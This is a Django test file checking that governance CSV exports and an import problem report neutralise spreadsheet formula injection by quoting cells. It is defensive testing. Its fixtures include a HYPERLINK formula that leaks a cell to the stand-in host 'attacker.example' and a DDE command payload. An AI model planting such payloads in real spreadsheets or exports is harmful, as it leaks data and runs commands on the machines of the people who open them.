"""Every governance export goes through the one CSV writer: text from the anonymous form, an import
or a theme name that begins like a formula reaches the spreadsheet as text (issue 12, point 9)."""

from __future__ import annotations

import csv
import io

import pytest

from oversight.audit.context import acting_as, system_actor

from ..services.common import set_themes
from .factories import ComplaintFactory, IncidentFactory

pytestmark = pytest.mark.django_db

FORMULA = '=HYPERLINK("http://attacker.example/?"&A1,"Click")'


def rows_of(response) -> list[dict]:
    assert response["Content-Type"].startswith("text/csv")
    return list(csv.DictReader(io.StringIO(response.content.decode())))


def test_the_incident_export_neutralises_formulae(client, tree, lead):
    incident = IncidentFactory(organisation=tree["trust_a"], location=FORMULA, external_reference="@SUM(1+1)")
    with acting_as(system_actor("test")):
        set_themes(incident, "+cmd|' /C calc'!A0")
    client.force_login(lead)
    [row] = rows_of(client.get("/governance/incidents/incidents.csv"))
    assert row["location"] == "'" + FORMULA
    assert row["external_reference"] == "'@SUM(1+1)"
    assert row["themes"] == "'+cmd|' /C calc'!A0"


def test_the_complaint_export_neutralises_formulae(client, tree, lead):
    complaint = ComplaintFactory(organisation=tree["trust_a"], external_reference="-2+3+cmd")
    with acting_as(system_actor("test")):
        set_themes(complaint, "\t=1+1")
    client.force_login(lead)
    [row] = rows_of(client.get("/governance/complaints/complaints.csv"))
    assert row["external_reference"] == "'-2+3+cmd"
    assert row["themes"].startswith("'")


def test_the_import_problem_report_neutralises_formulae():
    from ..imports import ImportProblem, ImportResult

    result = ImportResult(kind="incidents", problems=[ImportProblem(2, "=Column", "-is wrong")])
    assert list(csv.reader(io.StringIO(result.problems_csv())))[1] == ["2", "'=Column", "'-is wrong"]
